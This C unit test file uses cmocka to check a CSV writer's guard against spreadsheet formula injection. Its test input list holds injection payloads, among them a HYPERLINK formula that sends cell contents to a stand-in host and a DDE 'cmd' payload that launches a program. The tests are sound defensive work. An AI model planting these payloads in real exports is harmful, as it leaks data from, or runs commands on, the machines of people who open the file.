/* SPDX-License-Identifier: Apache-2.0 */
/*
 * core/sheet.c: what a spreadsheet would evaluate is written as text, numbers
 * stay numbers, and libcsv reads back exactly the cells that went in (after
 * the guard's apostrophe).
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>
#include <csv.h>

#include "core/error.h"
#include "core/sheet.h"

static const char *const hostile[] = {
    "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "=",
};

static void
test_formula_starts_are_guarded_and_numbers_are_not(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof hostile / sizeof hostile[0]; i++)
		assert_true(fc_sheet_needs_guard(hostile[i]));
	assert_true(fc_sheet_is_number("-12"));
	assert_true(fc_sheet_is_number("3.25"));
	assert_true(fc_sheet_is_number("0"));
	assert_false(fc_sheet_is_number("-"));
	assert_false(fc_sheet_is_number("1."));
	assert_false(fc_sheet_is_number("+1"));
	assert_false(fc_sheet_is_number("1e5"));
	assert_false(fc_sheet_needs_guard("-12"));
	assert_false(fc_sheet_needs_guard("-0.5"));
	assert_false(fc_sheet_needs_guard("新华路1号"));
	assert_false(fc_sheet_needs_guard(""));
	assert_false(fc_sheet_needs_guard("a=b"));
}

struct readback {
	char cells[32][128];
	size_t n;
	int rows;
};

static void
readback_field(void *s, size_t len, void *ctx)
{
	struct readback *rb = ctx;

	assert_true(rb->n < 32 && len < 128);
	memcpy(rb->cells[rb->n], s, len);
	rb->cells[rb->n][len] = '\0';
	rb->n++;
}

static void
readback_row(int c, void *ctx)
{
	struct readback *rb = ctx;

	(void)c;
	rb->rows++;
}

static void
test_a_row_reads_back_with_every_formula_cell_neutralised(void **state)
{
	const char *cells[sizeof hostile / sizeof hostile[0] + 3];
	size_t n = 0;
	struct fc_error err = {0};
	struct readback rb = {0};
	struct csv_parser p;
	char *text = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&text, &len);

	(void)state;
	for (size_t i = 0; i < sizeof hostile / sizeof hostile[0]; i++)
		cells[n++] = hostile[i];
	cells[n++] = "-7.5";
	cells[n++] = "say \"hi\", then\nleave";
	cells[n++] = "";
	assert_non_null(f);
	assert_int_equal(fc_sheet_csv_row(f, cells, n, &err), 0);
	fclose(f);
	/* A number is written bare: a spreadsheet reads it as a number. */
	assert_non_null(strstr(text, ",-7.5,"));
	assert_int_equal(csv_init(&p, CSV_STRICT | CSV_APPEND_NULL), 0);
	assert_int_equal(csv_parse(&p, text, len, readback_field, readback_row, &rb), len);
	csv_fini(&p, readback_field, readback_row, &rb);
	csv_free(&p);
	assert_int_equal(rb.rows, 1);
	assert_int_equal(rb.n, n);
	for (size_t i = 0; i < sizeof hostile / sizeof hostile[0]; i++) {
		assert_int_equal(rb.cells[i][0], '\'');
		assert_string_equal(rb.cells[i] + 1, hostile[i]);
	}
	assert_string_equal(rb.cells[n - 3], "-7.5");
	assert_string_equal(rb.cells[n - 2], "say \"hi\", then\nleave");
	assert_string_equal(rb.cells[n - 1], "");
	free(text);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_formula_starts_are_guarded_and_numbers_are_not),
	    cmocka_unit_test(test_a_row_reads_back_with_every_formula_cell_neutralised),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
